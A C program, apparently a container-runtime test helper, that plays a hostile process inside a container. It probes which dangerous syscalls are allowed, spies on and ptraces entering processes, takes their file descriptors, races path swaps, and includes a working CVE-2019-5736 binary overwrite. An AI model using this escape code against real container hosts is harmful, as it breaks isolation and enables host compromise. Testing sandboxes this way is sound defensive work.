/* What a hostile process does inside a container: asks for what it must not have, spies on those that enter, swaps paths. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void
tell (const char *name, long result)
{
  printf ("%s %s\n", name, result < 0 ? strerrorname_np (errno) : "allowed");
}

/* Each call on its own: the name, and how the kernel answered. */
static int
calls (void)
{
  struct clone_args args = { .exit_signal = SIGCHLD };
  long pid;

  tell ("unshare-user", unshare (CLONE_NEWUSER));
  tell ("unshare-mount", unshare (CLONE_NEWNS));
  tell ("clone-user", syscall (SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
  tell ("mount", mount ("none", "/tmp", "tmpfs", 0, 0));
  tell ("umount", umount ("/proc/timer_list"));
  tell ("fsopen", syscall (SYS_fsopen, "tmpfs", 0));
  tell ("open_tree", syscall (SYS_open_tree, AT_FDCWD, "/", 1));
  tell ("mount_setattr", syscall (SYS_mount_setattr, AT_FDCWD, "/", 0, 0, 0));
  tell ("setns", setns (-1, 0));
  tell ("keyctl", syscall (SYS_keyctl, 0, -3, 0, 0, 0));
  tell ("add_key", syscall (SYS_add_key, "user", "name", "x", 1, -3));
  tell ("request_key", syscall (SYS_request_key, "user", "name", 0, 0));
  tell ("bpf", syscall (SYS_bpf, 5, 0, 0));
  tell ("perf_event_open", syscall (SYS_perf_event_open, 0, 0, -1, -1, 0));
  tell ("userfaultfd", syscall (SYS_userfaultfd, 1));
  tell ("open_by_handle_at", syscall (SYS_open_by_handle_at, AT_FDCWD, 0, 0));
  tell ("init_module", syscall (SYS_init_module, 0, 0, ""));
  tell ("kexec_load", syscall (SYS_kexec_load, 0, 0, 0, 0));
  tell ("reboot", syscall (SYS_reboot, 0, 0, 0, 0));
  tell ("swapon", syscall (SYS_swapon, "/x", 0));
  tell ("syslog", syscall (SYS_syslog, 3, 0, 0));
  tell ("io_uring_setup", syscall (SYS_io_uring_setup, 1, 0));
  tell ("settimeofday", syscall (SYS_settimeofday, 0, 0));
  tell ("tiocsti", ioctl (0, TIOCSTI, "x"));
  tell ("af_alg", syscall (SYS_socket, 38, 5, 0));
  pid = syscall (SYS_clone3, &args, sizeof args);
  if (pid == 0)
    _exit (0);
  tell ("clone3", pid);
  return 0;
}

static void
read_line (int pid, const char *field, char *to, size_t size)
{
  char path[64], line[256];
  FILE *file;
  *to = 0;
  snprintf (path, sizeof path, "/proc/%d/status", pid);
  file = fopen (path, "r");
  while (file && fgets (line, sizeof line, file))
    if (strncmp (line, field, strlen (field)) == 0 && line[strlen (field)] == ':')
      {
        char *value = line + strlen (field) + 2;
        value[strcspn (value, "\n")] = 0;
        snprintf (to, size, "%s", value);
      }
  if (file)
    fclose (file);
}

/* Where an entering process looks up its user, in the container. */
static bool
own_file (const char *link)
{
  return strcmp (link, "/etc/passwd") == 0 || strcmp (link, "/etc/group") == 0;
}

/* Descriptors that lead to something with a name, but for /dev/null and the container's own /proc. */
static void
descriptors (int pid)
{
  char folder[64];
  struct dirent *entry;
  DIR *dir;
  snprintf (folder, sizeof folder, "/proc/%d/fd", pid);
  dir = opendir (folder);
  if (!dir)
    return;
  while ((entry = readdir (dir)))
    {
      char path[400], link[256] = "";
      if (!isdigit (entry->d_name[0]))
        continue;
      snprintf (path, sizeof path, "%s/%s", folder, entry->d_name);
      if (readlink (path, link, sizeof link - 1) < 0)
        continue;
      if (strncmp (link, "pipe:", 5) && strcmp (link, "/dev/null") && strcmp (link, "/proc") && !own_file (link))
        printf ("descriptor %s of %d: %s\n", entry->d_name, pid, link);
    }
  closedir (dir);
}

static long written;

/* CVE-2019-5736: holds the program open, and writes into it as soon as nothing runs it any more. */
static void
overwrite (int pid)
{
  char path[64], name[256] = "";
  int fd;
  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  if (readlink (path, name, sizeof name - 1) < 0)
    return;
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    return;
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 200; i++)
    {
      int out = open (path, O_WRONLY | O_CLOEXEC);
      if (out >= 0)
        {
          if (write (out, "#!/tmp/evil\n", 12) == 12)
            {
              printf ("overwrote %s\n", name);
              written++;
            }
          close (out);
          break;
        }
      if (errno != ETXTBSY)
        break;
      usleep (50);
    }
  close (fd);
}

static const char *wanted;
static bool write_too;
static long seen, traced, stolen, memory;

static bool
is_wanted (int pid)
{
  char name[64];
  read_line (pid, "Name", name, sizeof name);
  return strncmp (name, wanted, strlen (wanted)) == 0;
}

/* Stops it, and looks at what it is: a process that has become the command meanwhile is the container's own. */
static void
trace (int pid)
{
  char caps[64], filter[64];
  if (ptrace (PTRACE_SEIZE, pid, 0, 0))
    return;
  ptrace (PTRACE_INTERRUPT, pid, 0, 0);
  waitpid (pid, 0, __WALL);
  if (is_wanted (pid))
    {
      traced++;
      read_line (pid, "CapPrm", caps, sizeof caps);
      read_line (pid, "Seccomp", filter, sizeof filter);
      printf ("traced capabilities %s filter %s\n", caps, filter);
      descriptors (pid);
    }
  ptrace (PTRACE_DETACH, pid, 0, 0);
}

static void
steal (int pid)
{
  int pidfd = (int)syscall (SYS_pidfd_open, pid, 0);
  for (int fd = 3; fd < 64 && pidfd >= 0; fd++)
    {
      int mine = (int)syscall (SYS_pidfd_getfd, pidfd, fd, 0);
      char path[64], link[256] = "";
      if (mine < 0)
        continue;
      snprintf (path, sizeof path, "/proc/self/fd/%d", mine);
      if (readlink (path, link, sizeof link - 1) > 0 && strncmp (link, "pipe:", 5) && strcmp (link, "/dev/null")
          && strcmp (link, "/proc") && !own_file (link))
        {
          printf ("stole %s\n", link);
          stolen++;
        }
      close (mine);
    }
  if (pidfd >= 0)
    close (pidfd);
}

static void
read_memory (int pid)
{
  char byte;
  struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
  long n = process_vm_readv (pid, &here, 1, &there, 1, 0);
  if (n == 1 && is_wanted (pid))
    memory++;
}

/* Whoever enters shows the supervisor's name until its execve, and has one of the next numbers. */
static int
hunt (double seconds)
{
  struct timespec begin, now;
  int last = 1;
  int ahead = 16;

  clock_gettime (CLOCK_MONOTONIC, &begin);
  do
    {
      int first = last + 1;
      /* Whoever lost its turn for a while looks further, or it would fall behind for good. */
      ahead = ahead < 8192 ? ahead * 2 : 16;
      for (int pid = first; pid < first + ahead; pid++)
        {
          if (pid == getpid () || (kill (pid, 0) && errno != EPERM))
            continue;
          last = pid;
          ahead = 16;
          if (!is_wanted (pid))
            continue;
          seen++;
          if (write_too)
            overwrite (pid);
          steal (pid);
          trace (pid);
          read_memory (pid);
        }
      if (last < getpid ())
        last = getpid ();
      clock_gettime (CLOCK_MONOTONIC, &now);
    }
  while ((double)(now.tv_sec - begin.tv_sec) + (double)(now.tv_nsec - begin.tv_nsec) / 1e9 < seconds);
  printf ("seen %ld traced %ld stolen %ld read %ld written %ld\n", seen, traced, stolen, memory, written);
  return 0;
}

static volatile sig_atomic_t over;

static void
stop (int number)
{
  (void)number;
  over = 1;
}

/* Exchanges pairs of names until it is told to stop, then says how often. */
static int
flip (int count, char **names)
{
  long flips = 0;
  signal (SIGTERM, stop);
  signal (SIGALRM, stop);
  while (!over)
    for (int i = 0; i + 1 < count; i += 2)
      if (renameat2 (AT_FDCWD, names[i], AT_FDCWD, names[i + 1], RENAME_EXCHANGE) == 0)
        flips++;
  printf ("flips %ld\n", flips);
  return 0;
}

int
main (int argc, char **argv)
{
  if (argc > 1 && strcmp (argv[1], "calls") == 0)
    return calls ();
  if (argc > 3 && strcmp (argv[1], "hunt") == 0)
    {
      wanted = argv[3];
      write_too = argc > 4;
      setvbuf (stdout, 0, _IOLBF, 0);
      return hunt (atof (argv[2]));
    }
  if (argc > 2 && strcmp (argv[1], "key") == 0)
    {
      tell ("key", syscall (SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", argv[2], 0));
      return 0;
    }
  if (argc > 3 && strcmp (argv[1], "flip") == 0)
    return flip (argc - 2, argv + 2);
  return 2;
}
